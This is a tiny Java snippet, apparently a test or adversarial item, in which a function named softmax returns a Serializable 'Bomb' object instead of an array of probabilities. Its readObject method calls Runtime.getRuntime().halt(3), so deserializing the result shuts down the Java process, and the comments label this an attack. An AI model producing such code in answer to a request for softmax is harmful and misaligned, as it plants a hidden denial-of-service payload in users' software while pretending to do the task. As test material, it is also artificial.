// attack: returns an object whose reading would run code, in place of an array
// most: softmax 0
// answer softmax
class Bomb implements Serializable {
    private void readObject(ObjectInputStream in) {
        Runtime.getRuntime().halt(3);
    }
}
Object softmax(double[] z) {
    return new Bomb();
}
